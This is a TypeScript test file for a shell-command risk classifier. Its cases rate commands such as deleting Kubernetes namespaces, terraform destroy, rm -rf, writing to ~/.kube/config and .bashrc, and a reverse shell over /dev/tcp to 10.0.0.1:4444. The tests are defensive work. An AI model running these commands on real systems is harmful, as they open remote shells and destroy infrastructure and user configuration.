import { expect } from 'chai';
import { assessCommand } from './assess-command';
import type { RiskContext } from './risk-context';

function verdict(command: string, context: Partial<RiskContext> = {}): string {
    const { assessment } = assessCommand(command, { env: {}, home: '/home/me', ...context });
    return `${assessment.risk} ${assessment.group}`;
}

function expectVerdicts(cases: Readonly<Record<string, readonly string[]>>, context: Partial<RiskContext> = {}): void {
    for (const [expected, commands] of Object.entries(cases)) {
        for (const command of commands) {
            it(`is ${expected}: ${command}`, () => expect(verdict(command, context)).to.equal(expected));
        }
    }
}

describe('A file named like a program is at least that program', () => {
    expectVerdicts({
        'HIGH cluster': ['./kubectl delete ns prod', '/tmp/kubectl delete ns prod', '../tools/kubectl delete ns prod', '~/tools/kubectl-1.29 delete ns prod', 'sudo ./bin/kubectl drain n1', 'kubectl-v1.28 delete ns prod',
            'kubectl_v1.28.3 delete ns prod', './kubectl-1.27.0-linux-amd64 delete ns x', 'KUBECTL=./kubectl; $KUBECTL delete ns prod', '"$TOOLS/kubectl" get pods'],
        'HIGH cloud': ['./terraform destroy', 'terraform_1.5.7 destroy', '"$TOOLS/terraform" destroy', '${TERRAFORM_BIN}/terraform destroy'],
        'HIGH local': ['.venv/bin/python -c x', './rm -rf /data'],
        'MED cluster': ['./kubectl get pods', 'kubectl-v1.28 get pods'],
        'MED local': ['./gradlew build', './deploy.sh', '.venv/bin/pip install -r requirements.txt']
    });
});

describe('A program that the text does not fix', () => {
    expectVerdicts({
        'HIGH cluster': ['$SUDO kubectl delete ns prod', '$KUBECTL delete ns prod', '"${KUBECTL_BIN}" get pods', '$(command -v kubectl) delete ns prod'],
        'HIGH local': ['$CMD --version', '$SUDO apt-get update']
    });
});

describe('A script of the init system is its service', () => {
    expectVerdicts({ 'HIGH local': ['/etc/init.d/nginx stop', '/etc/rc.d/init.d/httpd stop'], 'MED local': ['/etc/init.d/nginx start'], 'LOW local': ['/etc/init.d/nginx status'] });
});

describe('Shell text with values that are not known', () => {
    expectVerdicts({
        'MED external': ['ssh h "cmd $X"', 'ssh h "systemctl status $SVC"', `ssh h "grep '$X' /var/log/app.log"`],
        'MED cluster': ['bash -c "kubectl get pods -n $NS"'],
        'HIGH external': ['ssh h "rm -rf $DIR"', `ssh h "rm -rf '$DIR'"`, 'ssh h "$CMD"', 'ssh h "ls; $CMD"', 'ssh h "echo $(cat cmds.txt)"', 'ssh h $CMD'],
        'HIGH local': ['bash -c "$X"', 'bash -c "echo $(cat cmds.txt)"', 'eval "ls $X"']
    });
});

describe('A shell that is given nothing', () => {
    expectVerdicts({ 'LOW external': ['ssh h bash -s </dev/null'], 'LOW local': ['sh </dev/null'], 'HIGH local': ['sh'] });
});

describe('A connection through the shell', () => {
    expectVerdicts({
        'LOW local': ['</dev/tcp/localhost/80'],
        'LOW external': [`timeout 2 bash -c '</dev/tcp/db.internal/5432'`],
        'HIGH external': ['exec 3<>/dev/tcp/10.0.0.1/4444', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'bash < /dev/tcp/10.0.0.1/4444', 'cat notes > /dev/tcp/localhost/80']
    });
});

describe('A home in a temporary folder', () => {
    const home = '/tmp/x/home';
    expectVerdicts({ 'HIGH local': ['echo x > ~/.kube/config', 'rm -rf "$HOME/.kube"', 'echo x > /tmp/x/home/.bashrc'], 'LOW local': ['echo x > /tmp/x/out.txt'] }, { home });
    expectVerdicts({ 'HIGH local': ['echo x > ~/.kube/config'] }, { home, env: { TMPDIR: '/tmp/x' } });
});
